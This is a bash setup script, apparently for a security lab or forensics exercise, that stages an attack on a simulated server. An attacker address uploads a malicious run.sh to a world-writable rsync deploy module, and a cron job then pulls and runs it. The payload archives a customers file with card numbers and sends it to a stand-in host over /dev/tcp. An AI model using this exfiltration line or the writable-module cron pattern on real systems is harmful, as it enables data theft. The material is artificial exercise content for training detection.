# shellcheck shell=bash disable=SC2034
HOST=back14
SECOND=app14
FORMAT=ENRICHED
UNSET=1

# push ADDRESS FILE MODULE
push() { outside rsync -q --address "$1" "$2" "rsync://10.88.0.10/$3/"; }

pull_pub() {
    outside rsync -a -e "ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -b 10.88.0.55 -i $work/ops.key" \
        ops@10.88.0.10:/srv/pub/ "$work/pub/"
}

scenario() {
    local name
    mkdir -p /srv/drop /srv/deploy /srv/pub /srv/app /run/sshd "$work/theirs" "$work/files/deploy"
    account app 4150
    account ops 4051
    touch /srv/home/ops/.hushlogin
    for name in a b c d; do head -c 3000 /dev/urandom >"$work/files/$name.jpg"; done
    for name in news faq; do echo "$name" >"/srv/pub/$name.txt"; done
    printf '%s\n' '#!/bin/bash' 'wc -l /srv/app/stock.csv > /srv/app/count' >/srv/deploy/run.sh
    chmod 755 /srv/deploy/run.sh
    printf 'item,stock\nchair,4\n' >/srv/app/stock.csv
    printf 'name,card\nada,4000\n' >/srv/app/customers.csv
    printf '%s\n' '#!/bin/bash' 'tar -c -z -f /srv/app/.p.tgz /srv/app/customers.csv' 'exec 3<>/dev/tcp/203.0.113.9/8443' \
        'cat /srv/app/.p.tgz >&3' >"$work/files/run.sh"
    chmod 755 "$work/files/run.sh"
    chown -R app /srv/app
    chown -R nobody /srv/drop /srv/deploy
    printf '%s\n' 'use chroot = no' 'uid = nobody' 'gid = nogroup' 'log file = /srv/rsyncd.log' 'reverse lookup = no' '[drop]' '  path = /srv/drop' '  read only = no' \
        '[deploy]' '  path = /srv/deploy' '  read only = no' >/srv/rsyncd.conf
    ssh-keygen -q -t ed25519 -N "" -f /srv/host.key
    ssh-keygen -q -t ed25519 -N "" -f "$work/ops.key"
    install -m 600 -o ops "$work/ops.key.pub" /srv/home/ops/.ssh/authorized_keys
    printf '%s\n' "HostKey /srv/host.key" "PidFile none" "UsePAM yes" "PasswordAuthentication no" "PrintMotd no" >/srv/sshd_config
    rm -f /etc/cron.d/* /etc/crontab
    printf '%s\n' '* * * * * app rsync -a -I rsync://10.88.0.10/deploy/ /srv/app/ && /srv/app/run.sh' >/etc/cron.d/deploy
    theirs
    sleep $((80 - 10#$(date +%S)))
    inside /usr/sbin/sshd -D -f /srv/sshd_config >/dev/null 2>&1 &
    inside /usr/bin/rsync --daemon --no-detach --config=/srv/rsyncd.conf >/dev/null 2>&1 &
    inside2 /usr/sbin/cron -f &
    sleep 2
    push 192.0.2.7 "$work/files/a.jpg" drop
    pull_pub
    sleep $((66 - 10#$(date +%S)))
    push 192.0.2.41 "$work/files/b.jpg" drop
    sleep 2
    outside rsync -q --address 198.51.100.23 rsync://10.88.0.10/ >/dev/null
    outside rsync -q -r --address 198.51.100.23 rsync://10.88.0.10/deploy/ "$work/files/deploy/"
    sleep 3
    push 198.51.100.23 "$work/files/run.sh" deploy
    sleep 4
    push 192.0.2.7 "$work/files/c.jpg" drop
    sleep $((66 - 10#$(date +%S)))
    push 192.0.2.41 "$work/files/d.jpg" drop
    pull_pub
    cat /srv/rsyncd.log >&2
    rm -f /run/crond.pid
}
